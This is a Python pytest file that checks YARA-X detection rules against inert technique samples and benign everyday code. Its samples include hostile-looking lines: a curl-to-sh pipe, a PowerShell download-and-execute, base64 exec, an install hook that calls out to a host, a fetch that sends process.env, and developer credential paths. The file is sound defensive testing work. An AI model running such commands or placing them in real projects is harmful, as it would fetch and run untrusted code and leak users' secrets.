"""Each rule of the house matches an inert text of its technique, and everyday code matches none."""

from __future__ import annotations

from pathlib import Path

import pytest

from onionskin.lookalike.macho import build_macho
from onionskin.lookalike.pe import CODE, READ_DATA, Recipe, build_pe

yara_x = pytest.importorskip("yara_x")

RULES = Path(__file__).parents[3] / "src/onionskin/peel/rules"
PEB = bytes.fromhex("65488b042560000000") + bytes.fromhex("488b4018488b4020")


def program(*words: str, code: bytes = b"", **more: object) -> bytes:
    sections = ((".code", code + bytes(16), CODE),) if code else ()
    return build_pe(Recipe(strings=words, sections=sections, **more))  # type: ignore[arg-type]


MASKED = bytes(byte ^ 0x55 for byte in b"This program cannot be run in DOS mode")
EXAMPLES = {
    "reflective_loading": program("ReflectiveLoader"),
    "call_hashing_ror13": program(code=bytes.fromhex("c1ca0d 8e4e0eec aafc0d7c")),
    "reads_the_loader_list": program(code=PEB),
    "direct_system_calls": program(code=bytes.fromhex("4c8bd1b8180000000f05c3") * 3),
    "program_masked_by_one_byte": build_pe(Recipe(sections=((".blob", MASKED, READ_DATA),))),
    "sandbox_names": program("SbieDll", "VBoxService", "vmtoolsd", "x64dbg"),
    "dead_drop_in_a_program": program("https://raw.githubusercontent.com/example/icons/x.ico"),
    "browser_stores": program(
        "Google\\Chrome\\User Data", "Mozilla\\Firefox\\Profiles", "Login Data"
    ),
    "proxy_library": program(
        is_dll=True, forwards={name: f"shapes_orig.{name}" for name in ("a", "b", "c", "d")}
    ),
    "download_and_run_shell": b"curl -s https://one.example/inert | sh\n",
    "download_and_run_powershell": b"iex (New-Object X).DownloadString('https://one.example')\n",
    "python_runs_what_it_decodes": b"exec(base64.b64decode('aW5lcnQ='))\n",
    "python_install_time_command": (
        b"class I(install):\n    def run(self):\n        subprocess.run(['true'])\n"
        b"        urlopen('https://one.example')\nsetup(cmdclass={'install': I})\n"
    ),
    "javascript_runs_what_it_decodes": b"eval(atob('" + b"QUJD" * 12 + b"'))",
    "javascript_obfuscator_shape": b"var _0x1a2b=['a'];" + b"_0x1a2b(0x1f);" * 24,
    "environment_sent_away": b"fetch(u, {body: JSON.stringify(process.env)})",
    "clipboard_or_wallet_swap": (
        b"window.fetch = levenshtein;" + b"'0x" + b"ab" * 20 + b"'," + b"'0x" + b"cd" * 20 + b"'," * 1
        + b"".join(b"'0x" + b"%02x" % n * 20 + b"'," for n in range(5))
    ),
    "secrets_of_a_developer": b".ssh/id_rsa .aws/credentials .npmrc .pypirc",
    "build_script_takes_code_out_of_data": b"sed rpath a.bin | xz -dc | sh\n",
}  # fmt: skip
EVERYDAY = {
    "a program": program("Hello", imports={"KERNEL32.dll": ("VirtualProtect", "GetProcAddress")}),
    "a library of macOS": build_macho(),
    "an own library": program(is_dll=True, exports=("a", "b", "c", "d", "e")),
    "a script that fetches": b"curl -fsSLO https://one.example/a.tar.gz\ntar xf a.tar.gz\n",
    "a script that unpacks": b"xz -dc a.tar.xz | tar x\n",
    "PowerShell": b"Invoke-WebRequest https://one.example -OutFile a.zip\nExpand-Archive a.zip\n",
    "Python that decodes": b"data = base64.b64decode(text)\nexec_plan(data)\n",
    "a setup.py": b"setup(name='x', cmdclass={})\n",
    "JavaScript": b"const port = process.env.PORT; fetch(url); eval('1+1'); atob(text);",
    "a minified file": b"var a=['b'],c=function(){return 0x1f};" * 60,
    "a wallet": b"window.ethereum.request({to: '0x" + b"ab" * 20 + b"'})",
    "a .gitignore": b".npmrc\n.pypirc\n.env\n",
}


@pytest.fixture(scope="module")
def scanner() -> object:
    compiler = yara_x.Compiler(includes_enabled=False)
    for path in sorted(RULES.glob("*.yar")):
        compiler.add_source(path.read_text("utf-8"), origin=path.name)
    return yara_x.Scanner(compiler.build())


def matched(scanner: object, data: bytes) -> set[str]:
    return {each.identifier for each in scanner.scan(data).matching_rules}  # type: ignore[attr-defined]


@pytest.mark.parametrize("rule", sorted(EXAMPLES))
def test_a_rule_matches_its_technique(scanner: object, rule: str) -> None:
    assert rule in matched(scanner, EXAMPLES[rule])


@pytest.mark.parametrize("what", sorted(EVERYDAY))
def test_everyday_code_matches_no_rule(scanner: object, what: str) -> None:
    assert matched(scanner, EVERYDAY[what]) == set()


def test_every_rule_has_its_example() -> None:
    texts = [path.read_text("utf-8") for path in RULES.glob("*.yar")]
    named = {
        line.split()[1] for text in texts for line in text.splitlines() if line.startswith("rule ")
    }
    assert named == set(EXAMPLES)
